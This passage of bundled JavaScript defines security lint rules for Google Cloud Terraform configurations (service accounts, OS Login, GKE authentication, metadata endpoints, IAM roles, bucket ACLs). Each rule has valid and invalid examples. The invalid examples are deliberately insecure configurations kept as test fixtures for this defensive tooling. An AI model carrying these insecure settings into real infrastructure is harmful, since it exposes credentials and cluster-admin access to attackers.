    else report({ message: `${instance.name} does not block project-wide SSH keys (block-project-ssh-keys is not set)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "api" {
  name         = "api-1"
  machine_type = "e2-medium"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  metadata = {
    block-project-ssh-keys = "TRUE"
  }
}
`
      },
      {
        name: "OS Login for the whole project",
        filename: "main.tf",
        code: `resource "google_compute_project_metadata_item" "oslogin" {
  key   = "enable-oslogin"
  value = "TRUE"
}

resource "google_compute_instance" "api" {
  name         = "api-1"
  machine_type = "e2-medium"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "api" {
  name         = "api-1"
  machine_type = "e2-medium"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  metadata = {
    block-project-ssh-keys = false
  }
}
`,
        errors: [{ line: 11, column: 5 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "google_compute_instance_template" "api" {
  name_prefix  = "api-"
  machine_type = "e2-medium"

  disk {
    source_image = "debian-cloud/debian-12"
  }

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-compute-default-service-account-full-scope.ts
var gcp_compute_default_service_account_full_scope_default = defineRule({
  meta: {
    id: "gcp-compute-default-service-account-full-scope",
    title: "Compute Engine instance uses the default service account with the cloud-platform scope",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"],
    description: "The default Compute Engine service account holds the Editor role on the project unless that grant was removed; with the `cloud-platform` scope nothing limits what its tokens can do. Anyone who gets code running on the VM can read the metadata server's token and modify almost every resource in the project.",
    remediation: "Create a dedicated service account with only the roles the workload needs and set it in `service_account { email = ... }`; keep the `cloud-platform` scope only with such a least-privilege account.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.2"] },
    tags: ["gcp", "compute", "service-account", "default-service-account", "least-privilege"],
    references: [
      "https://cloud.google.com/compute/docs/access/service-accounts#default_service_account",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#service_account"
    ]
  },
  check(instance, { report }) {
    const account = instanceServiceAccount(instance);
    if (!account?.isDefault || account.fullScopeIndex < 0) return;
    report({
      at: [...account.at, "scopes", account.fullScopeIndex],
      message: `${instance.name} runs as the default service account with the cloud-platform scope: full access to all Cloud APIs with the project's Editor role`
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "renderer" {
  name         = "renderer-1"
  machine_type = "n2-standard-4"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  service_account {
    email  = google_service_account.renderer.email
    scopes = ["cloud-platform"]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "renderer" {
  name         = "renderer-1"
  machine_type = "n2-standard-4"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  service_account {
    scopes = ["cloud-platform"]
  }
}
`,
        errors: [{ line: 11, column: 15 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-compute-default-service-account.ts
var gcp_compute_default_service_account_default = defineRule({
  meta: {
    id: "gcp-compute-default-service-account",
    title: "Compute Engine instance uses the default service account",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"],
    description: "The instance runs as the Compute Engine default service account, which is shared by every VM in the project and holds the Editor role unless that grant was removed. Its access scopes are the only limit on what code on the VM can do with its credentials. (With the `cloud-platform` scope this is reported by the full-scope rule instead.)",
    remediation: "Create a dedicated service account for the workload, grant it only the roles it needs and set it in `service_account { email = ... }`.",
    precision: "high",
    cwe: ["CWE-250"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.1"] },
    tags: ["gcp", "compute", "service-account", "default-service-account", "least-privilege"],
    references: [
      "https://cloud.google.com/compute/docs/access/service-accounts#default_service_account",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#service_account"
    ]
  },
  check(instance, { report }) {
    const account = instanceServiceAccount(instance);
    if (!account?.isDefault || account.fullScopeIndex >= 0) return;
    report({ at: [...account.at, "email"], message: `${instance.name} runs as the Compute Engine default service account` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "cron" {
  name         = "cron-1"
  machine_type = "e2-small"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  service_account {
    email  = "cron-runner@acme-prod.iam.gserviceaccount.com"
    scopes = ["cloud-platform"]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "cron" {
  name         = "cron-1"
  machine_type = "e2-small"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  service_account {
    email  = "123456789012-compute@developer.gserviceaccount.com"
    scopes = ["storage-ro", "logging-write"]
  }
}
`,
        errors: [{ line: 11, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-compute-os-login-disabled.ts
var gcp_compute_os_login_disabled_default = defineRule({
  meta: {
    id: "gcp-compute-os-login-disabled",
    title: "Compute Engine OS Login disabled",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: METADATA_TYPES,
    description: "`enable-oslogin = FALSE` makes the instance (or, on project metadata, every instance) fall back to SSH keys stored in metadata. Access is then not tied to IAM identities: keys are not revoked when people leave, cannot require two-step verification and leave no audit trail of who logged in.",
    remediation: 'Set `enable-oslogin = "TRUE"` in project metadata and remove instance-level overrides; grant `roles/compute.osLogin` to the people who need SSH.',
    precision: "very-high",
    cwe: ["CWE-287"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.4"] },
    tags: ["gcp", "compute", "os-login", "ssh", "authentication"],
    references: [
      "https://cloud.google.com/compute/docs/oslogin/set-up-oslogin",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_project_metadata"
    ]
  },
  check(resource, { report }) {
    const entry = metadataEntry(resource, "enable-oslogin");
    if (entry && metadataFlag(entry.value) === false) {
      report({ at: entry.at, message: `${resource.name} disables OS Login (enable-oslogin = ${JSON.stringify(entry.value)}): SSH access falls back to metadata keys` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_project_metadata" "default" {
  metadata = {
    enable-oslogin = "TRUE"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "legacy" {
  name         = "legacy-app"
  machine_type = "e2-small"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  metadata = {
    enable-oslogin = false
  }
}
`,
        errors: [{ line: 11, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-compute-serial-port-enabled.ts
var gcp_compute_serial_port_enabled_default = defineRule({
  meta: {
    id: "gcp-compute-serial-port-enabled",
    title: "Compute Engine interactive serial port access enabled",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: METADATA_TYPES,
    description: "`serial-port-enable` turns on the interactive serial console, which accepts connections from any IP address and is not subject to VPC firewall rules. Anyone holding a key authorised for the instance can reach its console from anywhere.",
    remediation: 'Remove the `serial-port-enable` metadata key or set it to `"FALSE"`; enable it only temporarily for troubleshooting.',
    precision: "very-high",
    cwe: ["CWE-284"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.5"] },
    tags: ["gcp", "compute", "serial-port"],
    references: [
      "https://cloud.google.com/compute/docs/troubleshooting/troubleshooting-using-serial-console",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#metadata"
    ]
  },
  check(resource, { report }) {
    const entry = metadataEntry(resource, "serial-port-enable");
    if (entry && metadataFlag(entry.value) === true) {
      report({ at: entry.at, message: `${resource.name} enables interactive serial port access (serial-port-enable = ${JSON.stringify(entry.value)})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "worker" {
  name         = "worker-1"
  machine_type = "e2-medium"
  zone         = "europe-west1-b"

  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  metadata = {
    enable-oslogin = "TRUE"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_instance" "worker" {
  name         = "worker-1"
  machine_type = "e2-medium"
  zone         = "europe-west1-b"

  network_interface {
    subnetwork = google_compute_subnetwork.private.id
  }

  metadata = {
    serial-port-enable = "true"
  }
}
`,
        errors: [{ line: 11, column: 5 }]
      },
      {
        name: "project-wide metadata item",
        filename: "main.tf",
        code: `resource "google_compute_project_metadata_item" "serial" {
  key   = "serial-port-enable"
  value = "1"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-basic-auth.ts
var gcp_gke_basic_auth_default = defineRule({
  meta: {
    id: "gcp-gke-basic-auth",
    title: "GKE cluster with basic authentication (static username and password)",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "`master_auth` sets a static username and password for the Kubernetes API. That password grants cluster-admin, cannot be scoped, is stored in Terraform state and never expires.",
    remediation: "Remove `username` and `password` from `master_auth` and authenticate with Google identities (IAM and `gcloud container clusters get-credentials`).",
    precision: "very-high",
    cwe: ["CWE-798", "CWE-287"],
    tags: ["gcp", "gke", "kubernetes", "basic-auth", "authentication"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth",
      "https://registry.terraform.io/providers/hashicorp/google/4.85.0/docs/resources/container_cluster#username"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.master_auth).forEach((auth, index) => {
      if (!isObject(auth)) return;
      const field = ["username", "password"].find((key) => typeof auth[key] === "string" && auth[key].length > 0);
      if (field) report({ at: ["master_auth", index, field], message: `GKE cluster ${cluster.name} enables basic authentication with a static ${field}` });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "search" {
  name               = "search"
  location           = "europe-west1"
  initial_node_count = 1

  master_auth {
    client_certificate_config {
      issue_client_certificate = false
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "search" {
  name               = "search"
  location           = "europe-west1"
  initial_node_count = 1

  master_auth {
    username = "admin"
    password = var.cluster_password
  }
}
`,
        errors: [{ line: 7, column: 5 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-client-certificate.ts
var gcp_gke_client_certificate_default = defineRule({
  meta: {
    id: "gcp-gke-client-certificate",
    title: "GKE cluster issues a client certificate",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "`issue_client_certificate = true` creates a long-lived client certificate with cluster-admin rights. It is kept in Terraform state, cannot be revoked short of rotating the cluster's CA, and bypasses IAM.",
    remediation: "Set `issue_client_certificate = false` (the default) and authenticate with Google identities.",
    precision: "very-high",
    cwe: ["CWE-287"],
    tags: ["gcp", "gke", "kubernetes", "client-certificate", "authentication"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/api-server-authentication#legacy-auth",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#issue_client_certificate"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.master_auth).forEach((auth, authIndex) => {
      if (!isObject(auth)) return;
      asList(auth.client_certificate_config).forEach((config, index) => {
        if (isObject(config) && config.issue_client_certificate === true) {
          report({
            at: ["master_auth", authIndex, "client_certificate_config", index, "issue_client_certificate"],
            message: `GKE cluster ${cluster.name} issues a long-lived cluster-admin client certificate`
          });
        }
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "media" {
  name               = "media"
  location           = "europe-west1"
  initial_node_count = 1
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "media" {
  name               = "media"
  location           = "europe-west1"
  initial_node_count = 1

  master_auth {
    client_certificate_config {
      issue_client_certificate = true
    }
  }
}
`,
        errors: [{ line: 8, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-dashboard-enabled.ts
var gcp_gke_dashboard_enabled_default = defineRule({
  meta: {
    id: "gcp-gke-dashboard-enabled",
    title: "GKE Kubernetes dashboard add-on enabled",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "The Kubernetes dashboard add-on runs with a privileged service account; an exposed dashboard has been a common way to take over clusters. GKE has deprecated and removed it in favour of the Cloud Console.",
    remediation: "Set `addons_config { kubernetes_dashboard { disabled = true } }` or remove the block, and use the Google Cloud console's Kubernetes pages.",
    precision: "very-high",
    cwe: ["CWE-1188"],
    tags: ["gcp", "gke", "kubernetes", "dashboard"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/concepts/dashboards#kubernetes_dashboard",
      "https://registry.terraform.io/providers/hashicorp/google/3.90.1/docs/resources/container_cluster#kubernetes_dashboard"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.addons_config).forEach((addons, addonsIndex) => {
      if (!isObject(addons)) return;
      asList(addons.kubernetes_dashboard).forEach((dashboard, index) => {
        if (isObject(dashboard) && dashboard.disabled === false) {
          report({ at: ["addons_config", addonsIndex, "kubernetes_dashboard", index, "disabled"], message: `GKE cluster ${cluster.name} has the Kubernetes dashboard add-on enabled` });
        }
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "legacy" {
  name               = "legacy"
  location           = "europe-west1"
  initial_node_count = 1

  addons_config {
    http_load_balancing {
      disabled = false
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "legacy" {
  name               = "legacy"
  location           = "europe-west1"
  initial_node_count = 1

  addons_config {
    kubernetes_dashboard {
      disabled = false
    }
  }
}
`,
        errors: [{ line: 8, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-legacy-abac.ts
var gcp_gke_legacy_abac_default = defineRule({
  meta: {
    id: "gcp-gke-legacy-abac",
    title: "GKE cluster with legacy ABAC authorization enabled",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "Legacy attribute-based access control grants broad, statically configured permissions that bypass Kubernetes RBAC; on GKE it gives service accounts, including those of ordinary pods, far more access than their RBAC bindings say.",
    remediation: "Set `enable_legacy_abac = false` (the default) and grant access through Kubernetes RBAC and IAM.",
    precision: "very-high",
    cwe: ["CWE-285"],
    tags: ["gcp", "gke", "kubernetes", "abac", "rbac", "authorization"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/hardening-your-cluster#leave_abac_disabled_default_for_110",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_legacy_abac"
    ]
  },
  check(cluster, { report }) {
    if (cluster.attributes.enable_legacy_abac === true) {
      report({ at: ["enable_legacy_abac"], message: `GKE cluster ${cluster.name} has legacy ABAC authorization enabled, bypassing RBAC` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "core" {
  name               = "core"
  location           = "europe-west1"
  initial_node_count = 1
  enable_legacy_abac = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "core" {
  name               = "core"
  location           = "europe-west1"
  initial_node_count = 1
  enable_legacy_abac = true
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/support/gke.ts
var GKE_CLUSTER = "google_container_cluster";
var GKE_NODE_POOL = "google_container_node_pool";
function isAutopilot(cluster) {
  return cluster.attributes.enable_autopilot === true;
}
function firstBlock(value) {
  const first = asList(value)[0];
  return isObject(first) ? first : void 0;
}
function nodePoolConfigs(resource) {
  const attributes = resource.attributes;
  const read = (owner, base) => {
    if (isUnknown(owner.node_config)) return void 0;
    const config = asList(owner.node_config)[0];
    if (config !== void 0 && !isObject(config)) return void 0;
    return { at: [...base, "node_config", 0], config };
  };
  if (resource.type === GKE_NODE_POOL) {
    const pool2 = read(attributes, []);
    return pool2 ? [pool2] : [];
  }
  if (isAutopilot(resource) || isUnknown(attributes.node_pool)) return [];
  const inline = asList(attributes.node_pool);
  if (inline.length > 0) {
    return inline.flatMap((pool2, index) => {
      const config = isObject(pool2) ? read(pool2, ["node_pool", index]) : void 0;
      return config ? [config] : [];
    });
  }
  if (attributes.remove_default_node_pool !== void 0 && attributes.remove_default_node_pool !== false) return [];
  const pool = read(attributes, []);
  return pool ? [pool] : [];
}

// packages/rules/src/terraform/iam/gcp-gke-legacy-metadata-endpoints.ts
var gcp_gke_legacy_metadata_endpoints_default = defineRule({
  meta: {
    id: "gcp-gke-legacy-metadata-endpoints",
    title: "GKE nodes expose legacy metadata endpoints or node metadata to pods",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: [GKE_CLUSTER, GKE_NODE_POOL],
    description: "`disable-legacy-endpoints = false` re-enables the v0.1 and v1beta1 metadata APIs, which answer without the `Metadata-Flavor` header, and `node_metadata = \"EXPOSE\"` gives pods the node's full metadata. Either lets a server-side request forgery in any pod fetch the node's credentials and kubelet bootstrap secrets.",
    remediation: 'Remove the `disable-legacy-endpoints` override (it defaults to true) and use `workload_metadata_config { mode = "GKE_METADATA" }` with Workload Identity.',
    precision: "very-high",
    cwe: ["CWE-200"],
    tags: ["gcp", "gke", "kubernetes", "metadata"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/protecting-cluster-metadata",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#workload_metadata_config"
    ]
  },
  check(resource, { report }) {
    for (const pool of nodePoolConfigs(resource)) {
      const config = pool.config;
      if (!config) continue;
      if (isObject(config.metadata) && metadataFlag(config.metadata["disable-legacy-endpoints"]) === false) {
        report({ at: [...pool.at, "metadata", "disable-legacy-endpoints"], message: `${resource.name}: nodes serve the legacy metadata endpoints (disable-legacy-endpoints = false)` });
      }
      if (isUnknown(config.workload_metadata_config)) continue;
      asList(config.workload_metadata_config).forEach((workload, index) => {
        if (isObject(workload) && workload.node_metadata === "EXPOSE") {
          report({ at: [...pool.at, "workload_metadata_config", index, "node_metadata"], message: `${resource.name}: pods can read the node's metadata and credentials (node_metadata = "EXPOSE")` });
        }
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_node_pool" "batch" {
  name    = "batch"
  cluster = google_container_cluster.main.id

  node_config {
    service_account = google_service_account.gke_nodes.email
    workload_metadata_config {
      mode = "GKE_METADATA"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_node_pool" "batch" {
  name    = "batch"
  cluster = google_container_cluster.main.id

  node_config {
    service_account = google_service_account.gke_nodes.email
    metadata = {
      disable-legacy-endpoints = "false"
    }
  }
}
`,
        errors: [{ line: 8, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-node-default-service-account.ts
var gcp_gke_node_default_service_account_default = defineRule({
  meta: {
    id: "gcp-gke-node-default-service-account",
    title: "GKE nodes run as the default Compute Engine service account",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: [GKE_CLUSTER, GKE_NODE_POOL],
    description: "Nodes without `node_config.service_account` run as the Compute Engine default service account, which usually holds the Editor role on the project. Any pod that reaches the node's metadata server can use those credentials against the whole project.",
    remediation: "Create a minimal node service account (roles/container.defaultNodeServiceAccount) and set it in `node_config { service_account = ... }`.",
    precision: "high",
    cwe: ["CWE-250"],
    tags: ["gcp", "gke", "kubernetes", "service-account", "default-service-account"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/hardening-your-cluster#use_least_privilege_sa",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_node_pool#service_account"
    ]
  },
  check(resource, { report }) {
    for (const pool of nodePoolConfigs(resource)) {
      const account = pool.config?.service_account;
      if (isUnknown(account)) continue;
      if (account === void 0 || account === null) {
        report({ at: pool.at, message: `${resource.name}: nodes run as the default Compute Engine service account (node_config.service_account is not set)` });
      } else if (isDefaultComputeServiceAccount(account)) {
        report({ at: [...pool.at, "service_account"], message: `${resource.name}: nodes run as the default Compute Engine service account` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_node_pool" "general" {
  name    = "general"
  cluster = google_container_cluster.main.id

  node_config {
    machine_type    = "e2-standard-4"
    service_account = google_service_account.gke_nodes.email
  }
}
`
      },
      {
        name: "default pool removed",
        filename: "main.tf",
        code: `resource "google_container_cluster" "main" {
  name                     = "main"
  location                 = "europe-west1"
  initial_node_count       = 1
  remove_default_node_pool = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_node_pool" "general" {
  name    = "general"
  cluster = google_container_cluster.main.id

  node_config {
    machine_type = "e2-standard-4"
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      },
      {
        name: "default pool of a cluster",
        filename: "main.tf",
        code: `resource "google_container_cluster" "main" {
  name               = "main"
  location           = "europe-west1"
  initial_node_count = 3
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-gke-workload-identity-missing.ts
var gcp_gke_workload_identity_missing_default = defineRule({
  meta: {
    id: "gcp-gke-workload-identity-missing",
    title: "GKE cluster without Workload Identity",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_container_cluster"],
    description: "Without Workload Identity, pods that call Google APIs use the node's service account: every pod on a node has the same permissions, and any pod can read the node's credentials from the metadata server.",
    remediation: 'Add `workload_identity_config { workload_pool = "PROJECT_ID.svc.id.goog" }` and bind Kubernetes service accounts to dedicated Google service accounts.',
    precision: "high",
    cwe: ["CWE-250"],
    tags: ["gcp", "gke", "kubernetes", "workload-identity", "service-account"],
    references: [
      "https://cloud.google.com/kubernetes-engine/docs/how-to/workload-identity",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#workload_identity_config"
    ]
  },
  check(cluster, { report }) {
    const config = cluster.attributes.workload_identity_config;
    if (isAutopilot(cluster) || isUnknown(config) || asList(config).length > 0) return;
    report({ message: `GKE cluster ${cluster.name} does not enable Workload Identity: pods use the node service account` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "apps" {
  name               = "apps"
  location           = "europe-west1"
  initial_node_count = 1

  workload_identity_config {
    workload_pool = "acme-prod.svc.id.goog"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_container_cluster" "apps" {
  name               = "apps"
  location           = "europe-west1"
  initial_node_count = 1
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "plan: the absent block is an empty list",
        filename: "plan.json",
        code: `{
  "format_version": "1.2",
  "resource_changes": [
    {
      "address": "google_container_cluster.apps",
      "mode": "managed",
      "type": "google_container_cluster",
      "name": "apps",
      "change": {
        "actions": ["create"],
        "before": null,
        "after": { "name": "apps", "location": "europe-west1", "enable_autopilot": null, "workload_identity_config": [] },
        "after_unknown": { "id": true }
      }
    }
  ]
}
`,
        errors: [{ line: 5, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-project-primitive-role.ts
var BASIC_ROLES = /* @__PURE__ */ new Set(["roles/owner", "roles/editor"]);
var MEMBER_TYPES = ["google_project_iam_member", "google_folder_iam_member", "google_organization_iam_member"];
var BINDING_TYPES = ["google_project_iam_binding", "google_folder_iam_binding", "google_organization_iam_binding"];
var gcp_project_primitive_role_default = defineRule({
  meta: {
    id: "gcp-project-primitive-role",
    title: "Basic (primitive) role Owner or Editor granted on a project, folder or organization",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: [...MEMBER_TYPES, ...BINDING_TYPES],
    description: "The basic roles `roles/owner` and `roles/editor` grant thousands of permissions across every service. A principal holding one can read and change nearly everything in scope, which rarely matches what it needs and makes a compromise of that principal far more damaging.",
    remediation: "Grant predefined or custom roles limited to the services and actions the principal uses; keep Owner for a small break-glass group.",
    precision: "high",
    cwe: ["CWE-269"],
    tags: ["gcp", "iam", "basic-roles", "least-privilege"],
    references: [
      "https://cloud.google.com/iam/docs/roles-overview#basic",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/google_project_iam"
    ]
  },
  check(grant, { report }) {
    const role = grant.attributes.role;
    if (typeof role !== "string" || !BASIC_ROLES.has(role)) return;
    if (MEMBER_TYPES.includes(grant.type)) {
      if (typeof grant.attributes.member === "string") report({ at: ["role"], message: `${grant.name} grants the basic role ${role} to ${grant.attributes.member}: overly broad permissions` });
      return;
    }
    const members = grant.attributes.members;
    if (Array.isArray(members) && members.length > 0) {
      report({ at: ["role"], message: `${grant.name} grants the basic role ${role} to ${members.length} member(s): overly broad permissions` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_project_iam_member" "deployer" {
  project = "acme-prod"
  role    = "roles/run.developer"
  member  = "serviceAccount:deployer@acme-prod.iam.gserviceaccount.com"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_project_iam_member" "contractor" {
  project = "acme-prod"
  role    = "roles/editor"
  member  = "user:contractor@example.com"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-service-account-key.ts
var gcp_service_account_key_default = defineRule({
  meta: {
    id: "gcp-service-account-key",
    title: "User-managed service account key created (long-lived credentials)",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["google_service_account_key"],
    description: "A user-managed service account key is a long-lived credential that does not expire by default. Created by Terraform, its private key is also stored in the state file, so anyone who can read the state can act as the service account from anywhere.",
    remediation: "Use attached service accounts, Workload Identity or Workload Identity Federation instead of keys; if a key is unavoidable, upload a public key generated outside Terraform and rotate it.",
    precision: "high",
    cwe: ["CWE-798"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["1.4"] },
    tags: ["gcp", "iam", "service-account", "user-credentials"],
    references: [
      "https://cloud.google.com/iam/docs/best-practices-for-managing-service-account-keys",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/google_service_account_key"
    ]
  },
  check(key, { report }) {
    const uploaded = key.attributes.public_key_data !== void 0;
    report({
      message: uploaded ? `${key.name} uploads a user-managed service account key: long-lived credentials outside Google's control` : `${key.name} creates a user-managed service account key: long-lived credentials whose private key is stored in Terraform state`
    });
  },
  examples: {
    valid: [
      {
        name: "no key: an attached service account",
        filename: "main.tf",
        code: `resource "google_service_account" "ci" {
  account_id   = "ci-deployer"
  display_name = "CI deployer"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_service_account" "ci" {
  account_id   = "ci-deployer"
  display_name = "CI deployer"
}

resource "google_service_account_key" "ci" {
  service_account_id = google_service_account.ci.name
}
`,
        errors: [{ line: 6, column: 1, messageIncludes: "state" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/gcp-storage-bucket-public-acl.ts
var PUBLIC_PREDEFINED_ACLS = /* @__PURE__ */ new Set(["publicRead", "publicReadWrite", "authenticatedRead"]);
var ACL_TYPES = ["google_storage_bucket_acl", "google_storage_default_object_acl", "google_storage_object_acl"];
var ACCESS_CONTROL_TYPES = [
  "google_storage_bucket_access_control",
  "google_storage_default_object_access_control",
  "google_storage_object_access_control"
];
function entityOf(roleEntity) {
  if (typeof roleEntity !== "string") return void 0;
  const separator = roleEntity.indexOf(":");
  return separator < 0 ? void 0 : roleEntity.slice(separator + 1);
}
var gcp_storage_bucket_public_acl_default = defineRule({
  meta: {
    id: "gcp-storage-bucket-public-acl",
    title: "Cloud Storage ACL makes a bucket or objects public (allUsers, publicRead)",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: [...ACL_TYPES, ...ACCESS_CONTROL_TYPES],
    description: "A bucket or object ACL grants access to `allUsers` or `allAuthenticatedUsers`, directly or through the `publicRead`, `publicReadWrite` or `authenticatedRead` predefined ACLs. The data is then publicly readable (or writable) by anyone on the internet.",
    remediation: "Use a private predefined ACL (`projectPrivate`, `private`) or, better, enable uniform bucket-level access and grant IAM roles to specific principals only.",
    precision: "very-high",
    cwe: ["CWE-284", "CWE-200"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["5.1"] },
    tags: ["gcp", "cloud-storage", "public-access", "acl", "allUsers"],
    references: [
      "https://cloud.google.com/storage/docs/access-control/lists",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/storage_bucket_acl"
    ]
  },
  check(acl, { report }) {
    const attributes = acl.attributes;
    if (ACCESS_CONTROL_TYPES.includes(acl.type)) {
      if (isPublicMember(attributes.entity)) report({ at: ["entity"], message: `ACL ${acl.name} makes data public: ${String(attributes.role)} granted to ${attributes.entity}` });
      return;
    }
    const predefined = attributes.predefined_acl;
